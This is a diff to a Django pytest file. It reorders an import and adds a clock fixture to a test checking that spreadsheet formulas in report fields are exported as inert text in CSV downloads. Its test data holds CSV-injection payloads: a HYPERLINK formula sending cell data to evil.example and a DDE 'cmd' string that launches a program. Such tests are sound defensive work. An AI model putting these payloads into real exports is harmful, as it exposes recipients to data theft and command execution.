@@ -11,9 +11,9 @@ import pytest
 from django.urls import reverse
 from django.utils import timezone
 
+from fsar.testing import report_md
 from reviews import services
 from reviews.models import Report
-from reviews.tests.conftest import report_md
 
 pytestmark = pytest.mark.django_db
 WHY = "I read the report and the rollback plan."
@@ -168,7 +168,7 @@ def test_a_report_with_a_lone_surrogate_is_a_422_naming_the_field(agent, change,
 
 
 @pytest.mark.adversary
-def test_formulas_in_a_report_are_text_in_the_case_and_range_csv_exports(client, agent, operator, bob):
+def test_formulas_in_a_report_are_text_in_the_case_and_range_csv_exports(frozen_clock, client, agent, operator, bob):
     formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
     report = {"id": "=1+1", "timestamp": "2026-02-01T10:00:00Z", "proposal": formula, "severity": 35,
               "risks": ["+cmd|' /C calc'!A0"], "mitigations": ["@SUM(1+1)"], "block_execution": False}  # fmt: skip
